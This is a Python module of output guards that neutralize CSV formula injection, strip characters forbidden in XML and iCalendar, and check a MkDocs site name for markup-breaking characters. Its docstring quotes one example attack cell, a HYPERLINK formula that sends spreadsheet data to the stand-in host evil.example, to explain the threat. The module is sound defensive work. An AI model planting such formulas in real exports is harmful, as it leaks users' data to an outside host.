"""Guards for text written into data formats, whatever the text holds.

The checker refuses most bad characters at load; these guards keep each output valid
and harmless on their own, at the point of output:

- `csv_cell`: a spreadsheet may run a cell that starts with = + - @, a tab or a carriage
  return as a formula: `=HYPERLINK("http://evil.example/?x="&A1,"Bấm")`. Such a cell
  gets a leading apostrophe, as OWASP recommends (CSV Injection), and the CSV quotes
  every cell; a number ("-5", "+3,5") or a placeholder made only of dashes ("-") is left
  as it is.
- `xml_chars`: characters that XML 1.0 forbids (C0 controls other than tab and line
  breaks, U+FFFE, U+FFFF, lone surrogates) make a feed unreadable, and RFC 5545 forbids
  the same controls and DEL in a calendar: they are removed.
- `RAW_IN_THEME`, `breaks_theme`: Material writes MkDocs' `site_name` unescaped into the page (the title,
  the header logo's aria-label), so a site name may not hold what would break out of an
  attribute or open a tag; `cotcan tao-trang` and the plugin both refuse it.
"""

from __future__ import annotations

import re

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")
_DASHES_ONLY = re.compile(r"[-‐‑‒–—―−\s]+")
RAW_IN_THEME = ('"', "<", ">")


def breaks_theme(text: str) -> bool:
    """Whether `text`, written raw by the theme as `site_name`, could break out of the markup."""
    return any(char in text for char in RAW_IN_THEME)

_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")


def csv_cell(value: str) -> str:
    """A CSV cell that no spreadsheet runs as a formula."""
    if value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value) and not _DASHES_ONLY.fullmatch(value):
        return "'" + value
    return value


def xml_chars(text: str) -> str:
    """`text` without the characters XML 1.0 (and RFC 5545) forbid."""
    return _FORBIDDEN.sub("", text)
